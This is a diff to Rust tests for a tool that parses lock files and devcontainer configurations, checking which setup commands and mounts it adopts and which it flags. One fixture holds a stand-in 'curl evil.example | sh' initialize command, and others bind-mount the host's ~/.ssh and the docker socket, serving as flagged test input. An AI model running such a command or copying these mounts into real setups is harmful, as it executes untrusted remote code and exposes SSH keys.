@@ -36,6 +36,14 @@ fn each_lock_file_has_a_setup_and_what_it_depends_on() {
             &["preset:pypi"],
         ),
         (
+            &[("requirements.txt", ""), ("requirements-dev.txt", "")],
+            "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --user -r requirements.txt \
+             -r requirements-dev.txt",
+            &["requirements.txt", "requirements-dev.txt"],
+            &["pip"],
+            &["preset:pypi"],
+        ),
+        (
             &[("package.json", npm), ("package-lock.json", "{}")],
             "npm ci",
             &["package-lock.json", "package.json"],
@@ -209,13 +217,13 @@ fn a_devcontainer_is_taken_over_and_the_rest_is_named() {
         "remoteEnv": { "PATH": "${containerEnv:PATH}:/x" },
         "onCreateCommand": "apt list",
         "updateContentCommand": ["pip", "install", "-r", "dev requirements.txt"],
-        "postCreateCommand": { "a": "make deps; make more", "b": ["npm", "ci"] },
+        "postCreateCommand": { "a": "make deps; make more", "b": ["npm", "ci"], "c": "a && b" },
         "initializeCommand": "curl evil.example | sh",
         "postStartCommand": "npm start",
         "mounts": [
-            "source=pip,target=/home/vscode/.cache/pip,type=volume",
+            "source=pip,target=/home/agent/.cache/pip,type=volume",
             { "source": "pg", "target": "/var/lib/postgresql", "type": "volume" },
-            "source=${localEnv:HOME}/.ssh,target=/home/vscode/.ssh,type=bind",
+            "source=${localEnv:HOME}/.ssh,target=/home/agent/.ssh,type=bind",
             "source=/srv/models,target=/models,type=bind",
             "type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock",
             "source=mods,target=${containerWorkspaceFolder}/node_modules,type=volume",
@@ -232,6 +240,7 @@ fn a_devcontainer_is_taken_over_and_the_rest_is_named() {
             "pip install -r 'dev requirements.txt'",
             "sh -c 'make deps; make more'",
             "npm ci",
+            "a && b",
         ]
     );
     let env: Vec<(&str, &str)> = own
@@ -256,7 +265,7 @@ fn a_devcontainer_is_taken_over_and_the_rest_is_named() {
             "`features`",
             "`forwardPorts`",
             "`initializeCommand`",
-            "`mounts: /home/vscode/.ssh`",
+            "`mounts: /home/agent/.ssh`",
             "`mounts: /models`",
             "`mounts: /var/run/docker.sock`",
             "`mounts: /workspace/node_modules`",
